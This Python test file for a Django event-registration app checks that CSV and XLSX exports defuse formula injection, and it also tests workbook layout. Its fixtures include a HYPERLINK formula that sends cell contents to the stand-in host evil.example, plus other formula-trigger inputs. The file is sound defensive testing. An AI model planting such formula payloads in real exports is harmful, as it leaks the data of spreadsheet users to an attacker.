"""CSV and XLSX files never carry a live formula: risky cells stay text (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from registration.permissions import event_role_assign
from registration.reports.exporters import report_xlsx
from registration.reports.selectors import report_build
from registration.spreadsheets import (
    WIDTH_MAX,
    WIDTH_MIN,
    XlsxSheet,
    column_widths,
    safe_cell,
    sheet_title,
    xlsx_workbook,
)
from tests.factories import RegistrationFactory
from tests.registration.registration_helpers import event_create
from tests.registration.reports.report_fixtures import answer, hand_counted_event, make_survey

LIST = "wagtailsnippets_registration_registration:list"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RISKY = [FORMULA, "+7 701 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _not_evaluated_in_csv(value: str) -> bool:
    """What a spreadsheet does with a CSV cell: it evaluates it only if it starts with a
    trigger; our cells start with ``'`` instead."""
    return value.startswith("'") and not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", RISKY)
def test_safe_cell_prefixes_formula_triggers(value):
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Aida", "", "'=already quoted", 5, -3, None, 2.5])
def test_safe_cell_keeps_harmless_values(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_participants_csv_and_xlsx_keep_formula_like_cells_as_text(client):
    event = event_create(translations=())
    RegistrationFactory(
        event=event,
        given_name=FORMULA,
        family_name="-2+3",
        organisation="@SUM(A1:A9)",
        position="\t=1+1",
        phone="+77010000000",
    )
    manager = get_user_model().objects.create_user("manager", "m@example.org", "pw")
    event_role_assign(user=manager, event=event, role="registration_manager")
    client.force_login(manager)

    csv_response = client.get(reverse(LIST), {"export": "csv"})
    xlsx_response = client.get(reverse(LIST), {"export": "xlsx"})

    text = b"".join(csv_response.streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    for column, value in [
        ("Given name", FORMULA),
        ("Family name", "-2+3"),
        ("Organisation", "@SUM(A1:A9)"),
    ]:
        assert cells[column] == f"'{value}"
        assert _not_evaluated_in_csv(cells[column])
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content))).active
    head = [c.value for c in sheet[1]]
    given = sheet.cell(2, head.index("Given name") + 1)
    family = sheet.cell(2, head.index("Family name") + 1)
    assert (given.value, given.data_type) == (FORMULA, "s")
    assert (family.value, family.data_type) == ("-2+3", "s")


@pytest.mark.django_db
def test_report_xlsx_survey_answer_starting_with_equals_is_text():
    event, people = hand_counted_event()
    survey = make_survey(event)
    answer(survey, people["Aida"], [2, 4, 0, [0, 2], FORMULA])
    answer(survey, people["Bohdana"], [3, 5, 1, [0], "@SUM(A1:A9)"], language="uk")

    with translation.override("en"):
        book = load_workbook(io.BytesIO(report_xlsx(report_build(event=event))))

    cells = [c for row in book["Open answers"].iter_rows() for c in row]
    risky = {c.value: c for c in cells if c.value in (FORMULA, "@SUM(A1:A9)")}
    assert set(risky) == {FORMULA, "@SUM(A1:A9)"}
    for cell in risky.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    numbers = [c for row in book["Participation"].iter_rows(min_row=2) for c in row[1:5]]
    assert all(c.data_type == "n" for c in numbers if c.value is not None)


@pytest.mark.django_db
def test_site_history_csv_writes_a_formula_like_title_as_text(client):
    from wagtail.log_actions import log

    event = event_create(translations=(), title=FORMULA)
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    log(event, "wagtail.edit", user=admin)
    client.force_login(admin)

    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    titles = [cell for row in rows[1:] for cell in row if FORMULA in cell]
    assert titles
    assert set(titles) == {f"'{FORMULA}"}


# --- workbooks: named sheets, frozen header rows, column widths ---------------------------


def _layout(sheet) -> tuple[str, str | None, list[float]]:
    """What a reader of the sheet meets: its title, the frozen cell, the column widths."""
    widths = [
        sheet.column_dimensions[get_column_letter(i)].width for i in range(1, sheet.max_column + 1)
    ]
    return sheet.title, sheet.freeze_panes, widths


def test_xlsx_workbook_writes_named_sheets_with_frozen_bold_header_and_widths():
    long_name = "Abdrakhmanova-Seitkhanova Gulnara"
    data = xlsx_workbook(
        [
            XlsxSheet("Visa letters", ["Name", "Country"], [[long_name, "KZ"], ["Ann", "UA"]]),
            XlsxSheet("Interpretation", ["Day", "Русский"], [[dt.date(2026, 5, 12), 7]]),
        ]
    )

    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Visa letters", "Interpretation"]
    title, frozen, widths = _layout(book["Visa letters"])
    assert (title, frozen) == ("Visa letters", "A2")
    assert widths == [len(long_name) + 2, 9]  # the longest value; "Country" + 2
    assert book["Visa letters"]["A1"].font.b is True
    assert book["Visa letters"].print_title_rows == "$1:$1"  # printed on every page
    day = book["Interpretation"]["A2"]
    assert (day.value.date(), day.number_format) == (dt.date(2026, 5, 12), "yyyy-mm-dd")
    assert book["Interpretation"]["B2"].value == 7


def test_xlsx_workbook_keeps_formula_like_values_as_text():
    book = load_workbook(io.BytesIO(xlsx_workbook([XlsxSheet("Names", ["Name"], [[FORMULA]])])))

    cell = book["Names"]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


@pytest.mark.parametrize(
    ("titles", "expected"),
    [
        (["Needs: access/other?"], ["Needs access other"]),
        (["x" * 40], ["x" * 31]),
        (["Days", "days", "Days"], ["Days", "days (2)", "Days (3)"]),
        ([""], ["Data"]),
    ],
)
def test_sheet_title_is_one_excel_accepts_and_unique(titles, expected):
    used: set[str] = set()

    assert [sheet_title(t, used) for t in titles] == expected


def test_column_widths_stay_between_limits():
    assert column_widths(["A", "B"], [["x" * 500, None]]) == [WIDTH_MAX, WIDTH_MIN]


@pytest.mark.django_db
def test_participants_xlsx_has_a_named_sheet_frozen_header_and_widths(client):
    event = event_create(translations=())
    RegistrationFactory(event=event, organisation="Ministry of Internal Affairs of Kazakhstan")
    manager = get_user_model().objects.create_user("manager", "m@example.org", "pw")
    event_role_assign(user=manager, event=event, role="registration_manager")
    client.force_login(manager)

    response = client.get(reverse(LIST), {"export": "xlsx"})

    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["Participants"]
    _title, frozen, widths = _layout(book["Participants"])
    assert frozen == "A2"
    head = [c.value for c in book["Participants"][1]]
    organisation = head.index("Organisation")
    assert widths[organisation] == len("Ministry of Internal Affairs of Kazakhstan") + 2
    assert all(w >= 8 for w in widths)


@pytest.mark.django_db
def test_participants_xlsx_sheet_is_named_in_the_admins_language(client):
    event = event_create(translations=())
    RegistrationFactory(event=event)
    manager = get_user_model().objects.create_user("manager", "m@example.org", "pw")
    event_role_assign(user=manager, event=event, role="registration_manager")
    client.force_login(manager)

    with translation.override("ru"):
        response = client.get(reverse(LIST), {"export": "xlsx"}, HTTP_ACCEPT_LANGUAGE="ru")

    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames != ["Sheet1"]
    assert book.active.freeze_panes == "A2"


@pytest.mark.django_db
def test_site_history_xlsx_has_a_named_sheet_frozen_header_and_widths(client):
    from wagtail.log_actions import log

    event = event_create(translations=())
    admin = get_user_model().objects.create_superuser("root", "root@example.org", "pw")
    log(event, "wagtail.edit", user=admin)
    client.force_login(admin)

    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "xlsx"})

    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["Site history"]
    _title, frozen, widths = _layout(book["Site history"])
    assert frozen == "A2"
    assert widths
    assert all(8 <= w <= 60 for w in widths)


@pytest.mark.django_db
def test_report_xlsx_sheets_are_named_with_frozen_header_and_widths():
    event, _people = hand_counted_event()

    with translation.override("en"):
        book = load_workbook(io.BytesIO(report_xlsx(report_build(event=event))))

    assert "Sheet1" not in book.sheetnames
    assert "Participation" in book.sheetnames
    for sheet in book.worksheets:
        title, frozen, widths = _layout(sheet)
        assert frozen == "A2", title
        assert widths, title
        assert all(w and w >= 8 for w in widths), title
